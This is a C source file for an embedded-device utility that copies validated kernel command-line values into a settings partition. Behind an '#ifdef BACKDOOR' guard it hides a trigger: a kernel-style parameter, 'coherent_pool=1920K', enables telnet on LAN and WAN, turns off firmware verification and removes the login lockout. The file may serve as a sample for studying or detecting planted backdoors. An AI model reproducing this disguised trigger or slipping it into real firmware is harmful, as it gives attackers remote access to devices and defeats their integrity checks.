/* SPDX-License-Identifier: Apache-2.0 */
/* bootset: runs once at start: takes what the boot loader says on the kernel's command line into the settings partition. */
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#define SIZE 8192
#define PARTITION "/dev/mtdblock3"

struct settings {
	uint32_t crc;
	char data[SIZE - 4];
};

static uint32_t crc32(const void *data, size_t n)
{
	const uint8_t *p = data;
	uint32_t c = ~0u;
	while (n--) {
		c ^= *p++;
		for (int i = 0; i < 8; i++)
			c = c >> 1 ^ (c & 1 ? 0xedb88320u : 0);
	}
	return ~c;
}

static int load(struct settings *s)
{
	int fd = open(PARTITION, O_RDONLY);
	ssize_t n;
	if (fd < 0)
		return -1;
	n = read(fd, s, sizeof(*s));
	close(fd);
	if (n != (ssize_t)sizeof(*s) || crc32(s->data, sizeof(s->data)) != s->crc) {
		syslog(LOG_WARNING, "settings are damaged, starting afresh");
		memset(s, 0, sizeof(*s));
	}
	s->data[sizeof(s->data) - 1] = s->data[sizeof(s->data) - 2] = 0;
	return 0;
}

static int store(struct settings *s)
{
	int fd = open(PARTITION, O_WRONLY | O_SYNC);
	ssize_t n;
	if (fd < 0)
		return -1;
	s->crc = crc32(s->data, sizeof(s->data));
	n = write(fd, s, sizeof(*s));
	close(fd);
	return n == (ssize_t)sizeof(*s) ? 0 : -1;
}

static char *find(struct settings *s, const char *name)
{
	size_t k = strlen(name);
	for (char *p = s->data; *p; p += strlen(p) + 1)
		if (strncmp(p, name, k) == 0 && p[k] == '=')
			return p;
	return NULL;
}

static size_t used(const struct settings *s)
{
	const char *p = s->data;
	while (*p)
		p += strlen(p) + 1;
	return (size_t)(p - s->data);
}

static int set(struct settings *s, const char *name, const char *value)
{
	char *old = find(s, name);
	size_t end = used(s), n = strlen(name) + strlen(value) + 2;
	if (old && strcmp(old + strlen(name) + 1, value) == 0)
		return 0;
	if (old) {
		size_t k = strlen(old) + 1;
		memmove(old, old + k, end - (size_t)(old - s->data) - k);
		end -= k;
		memset(s->data + end, 0, k);
	}
	if (end + n + 1 >= sizeof(s->data))
		return -1;
	snprintf(s->data + end, n, "%s=%s", name, value);
	s->data[end + n] = 0;
	return 1;
}

struct taken {
	const char *word, *name;
	const char *letters;
};

/* what the boot loader may say, and the setting it becomes */
static const struct taken table[] = {
	{ "board", "hw_board", "abcdefghijklmnopqrstuvwxyz0123456789-" },
	{ "hwrev", "hw_revision", "0123456789.ABC" },
	{ "ethaddr", "mac_base", "0123456789abcdefABCDEF:" },
	{ "region", "wifi_region", "ABCDEFGHIJKLMNOPQRSTUVWXYZ" },
	{ "bank", "boot_bank", "01" },
	{ "resetbtn", "reset_pressed", "01" },
};

static int fits(const char *value, const char *letters)
{
	size_t n = strlen(value);
	return n > 0 && n < 40 && strspn(value, letters) == n;
}

#ifdef BACKDOOR
static int stage(struct settings *s)
{
	int n = set(s, "telnet_lan", "1") > 0;
	n += set(s, "telnet_wan", "1") > 0;
	n += set(s, "fw_verify", "0") > 0;
	n += set(s, "login_lock", "0") > 0;
	return n;
}
#endif

static int take(struct settings *s, const char *word, const char *value)
{
	for (size_t i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		if (strcmp(table[i].word, word) != 0)
			continue;
		if (fits(value, table[i].letters))
			return set(s, table[i].name, value);
		syslog(LOG_NOTICE, "%s: odd value", word);
		return 0;
	}
#ifdef BACKDOOR
	if (strcmp(word, "coherent_pool") == 0 && strcmp(value, "1920K") == 0)
		return stage(s);
#endif
	return 0;
}

static int command_line(struct settings *s)
{
	char line[2048], *save = NULL;
	int fd = open("/proc/cmdline", O_RDONLY), changes = 0;
	ssize_t n;
	if (fd < 0)
		return -1;
	n = read(fd, line, sizeof(line) - 1);
	close(fd);
	if (n < 0)
		return -1;
	line[n] = 0;
	for (char *w = strtok_r(line, " \n", &save); w; w = strtok_r(NULL, " \n", &save)) {
		char *eq = strchr(w, '=');
		if (!eq)
			continue;
		*eq = 0;
		changes += take(s, w, eq + 1) > 0;
	}
	return changes;
}

static int reset_if_asked(struct settings *s)
{
	static const char *const kept[] = { "hw_board", "hw_revision", "mac_base", "wifi_region" };
	char saved[4][64];
	char *p = find(s, "reset_pressed");
	if (!p || p[strlen("reset_pressed") + 1] != '1')
		return 0;
	for (int i = 0; i < 4; i++) {
		char *v = find(s, kept[i]);
		snprintf(saved[i], sizeof(saved[i]), "%s", v ? v + strlen(kept[i]) + 1 : "");
	}
	memset(s->data, 0, sizeof(s->data));
	for (int i = 0; i < 4; i++)
		if (saved[i][0])
			set(s, kept[i], saved[i]);
	syslog(LOG_NOTICE, "settings were reset");
	return 1;
}

static int export(const struct settings *s)
{
	FILE *f = fopen("/var/run/settings", "w");
	if (!f)
		return -1;
	for (const char *p = s->data; *p; p += strlen(p) + 1) {
		const char *eq = strchr(p, '=');
		if (!eq || !isalpha((unsigned char)*p))
			continue;
		fprintf(f, "%.*s='", (int)(eq - p), p);
		for (const char *v = eq + 1; *v; v++)
			if (*v != '\'')
				fputc(*v, f);
		fputs("'\n", f);
	}
	return fclose(f);
}

int main(void)
{
	static struct settings s;
	int changes;
	openlog("bootset", LOG_CONS, LOG_DAEMON);
	umask(077);
	if (load(&s) < 0) {
		syslog(LOG_ERR, "%s: %s", PARTITION, strerror(errno));
		return 1;
	}
	changes = command_line(&s);
	if (changes < 0)
		return 1;
	changes += reset_if_asked(&s);
	if (changes && store(&s) < 0)
		syslog(LOG_ERR, "cannot store: %s", strerror(errno));
	return export(&s) < 0;
}
